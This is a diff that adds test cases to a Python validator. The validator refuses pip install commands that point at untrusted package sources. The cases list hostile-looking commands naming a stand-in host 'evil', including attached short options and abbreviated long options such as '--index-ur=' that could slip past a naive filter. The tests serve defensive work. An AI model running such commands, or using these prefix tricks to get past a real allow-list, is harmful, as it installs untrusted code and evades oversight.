@@ -146,6 +146,12 @@ def test_missing_folder_is_a_user_error(tmp_path: Path):
     ("/usr/bin/python -m pytest", "is a path"),
     ("pip install --index-url https://evil/simple x", "chooses the package source"),
     ("pip install --extra-index-url=https://evil/simple x", "chooses the package source"),
+    # pip's parser takes attached short values and unique long-option prefixes: refused as well
+    ("pip install -ihttp://evil/simple x", "chooses the package source"),
+    ("pip install --extra-index=http://evil/simple x", "chooses the package source"),
+    ("pip install --index-ur=http://evil/ x", "chooses the package source"),
+    ("pip install --uploaded-p=2099-01-01 x", "chooses the package source"),
+    ("pip install x --constraint=http://evil/c.txt", "remote source"),
     ("pip install https://evil/x.whl", "remote source"),
     ("pip install 'x @ https://evil/x.whl'", "remote source"),
     ("pip install git+https://github.com/a/b", "remote source"),
